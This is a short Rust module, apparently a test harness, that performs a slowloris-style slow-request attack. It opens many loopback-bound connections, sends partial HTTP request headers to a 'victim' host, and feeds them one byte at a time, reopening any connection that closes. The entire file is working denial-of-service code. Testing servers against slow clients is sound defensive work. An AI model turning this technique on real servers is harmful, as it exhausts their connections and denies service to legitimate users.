//! An attack by slowness: connections that never finish their request, a byte at a time.

use std::io::{self, ErrorKind, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};

use rustix::net::{AddressFamily, SocketFlags, SocketType, bind, connect, socket_with};

/// Where the attack comes from: one address, and no client's.
const FROM: Ipv4Addr = Ipv4Addr::new(127, 0, 1, 1);
const BEGINNING: &[u8] = b"GET /ws/attack/slow HTTP/1.1\r\nHost: victim\r\nX-Slow: ";
/// Each connection says a byte so often.
const BETWEEN_BYTES: u64 = 1_000_000_000;

/// See the file's first line.
pub struct Attack {
    addr: SocketAddrV4,
    connections: Vec<TcpStream>,
    started: u64,
    said: u64,
}

impl Attack {
    /// Opens so many connections, each with the beginning of a request.
    pub fn begin(addr: SocketAddrV4, count: usize, now: u64) -> io::Result<Self> {
        let connections = (0..count).map(|_| open(addr)).collect::<io::Result<_>>()?;
        Ok(Attack { addr, connections, started: now, said: 0 })
    }

    /// Says what is due by now; a connection that was closed is opened again.
    pub fn go_on(&mut self, now: u64) -> io::Result<()> {
        let count = self.connections.len() as u64;
        let due = (now - self.started) * count / BETWEEN_BYTES;
        while self.said < due {
            let nth = (self.said % count) as usize;
            self.said += 1;
            match self.connections[nth].write(b"x") {
                Err(error) if error.kind() != ErrorKind::WouldBlock => {
                    self.connections[nth] = open(self.addr)?;
                }
                _ => {}
            }
        }
        Ok(())
    }
}

fn open(addr: SocketAddrV4) -> io::Result<TcpStream> {
    let socket = socket_with(AddressFamily::INET, SocketType::STREAM, SocketFlags::CLOEXEC, None)?;
    bind(&socket, &SocketAddrV4::new(FROM, 0))?;
    connect(&socket, &addr)?;
    let mut socket = TcpStream::from(socket);
    socket.set_nodelay(true)?;
    socket.set_nonblocking(true)?;
    let _ = socket.write(BEGINNING)?;
    Ok(socket)
}
